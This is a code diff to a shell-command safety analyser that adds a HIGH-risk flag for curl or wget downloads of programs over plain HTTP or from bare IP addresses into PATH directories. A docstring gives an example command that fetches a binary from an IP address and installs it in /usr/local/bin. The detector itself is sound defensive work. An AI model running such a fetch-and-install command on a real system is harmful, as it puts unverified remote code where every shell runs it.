@@ -8,6 +8,7 @@ its commands from the pipe), or `other`.
 
 from __future__ import annotations
 
+import ipaddress
 import posixpath
 
 from tui.core.safety import paths
@@ -161,6 +162,7 @@ def curl(command: Command, ctx: Context) -> None:
     if output and output != "-":
         _downloaded(ctx, output)
         ctx.add(MODERATE, f"downloads a file to {output}", command)
+        _program_from_nowhere(command, ctx, output, urls)
     elif opts.has("-O", "--remote-name", "--remote-name-all"):
         for url in urls:
             _downloaded(ctx, url)
@@ -203,10 +205,40 @@ def wget(command: Command, ctx: Context) -> None:
     if output:
         _downloaded(ctx, output)
         ctx.add(MODERATE, f"downloads a file to {output}", command)
+        _program_from_nowhere(command, ctx, output, [w.value for w in opts.operands])
         return
     for url in opts.operands:
         _downloaded(ctx, url.value)
     ctx.add(MODERATE, "downloads files into the current directory", command)
+
+
+_PROGRAM_DIRS = frozenset(
+    split_words("/usr/local/bin /usr/local/sbin /usr/bin /usr/sbin /bin /sbin /opt/homebrew/bin")
+)
+_HOME_PROGRAM_DIRS = frozenset(split_words(".local/bin bin"))
+
+
+def _program_from_nowhere(command: Command, ctx: Context, output: str, urls: list[str]) -> None:
+    """`curl http://203.0.113.9/kubectl -o /usr/local/bin/kubectl`: a program from a bare
+    address or over plain HTTP, put where every shell finds it."""
+    folder = posixpath.dirname(paths.normalise(output))
+    rel = paths.home_relative(folder)
+    if folder not in _PROGRAM_DIRS and rel not in _HOME_PROGRAM_DIRS:
+        return
+    for url in urls:
+        host = url.split("://", 1)[-1].split("/", 1)[0].rsplit("@", 1)[-1].split(":", 1)[0]
+        if url.startswith("http://") or _is_address(host):
+            reason = f"installs a program from {host} into {folder} unchecked: it runs as a command"
+            ctx.add(HIGH, reason, command)
+            return
+
+
+def _is_address(host: str) -> bool:
+    try:
+        ipaddress.ip_address(host.strip("[]"))
+    except ValueError:
+        return False
+    return True
 
 
 def _downloaded(ctx: Context, target: str) -> None:
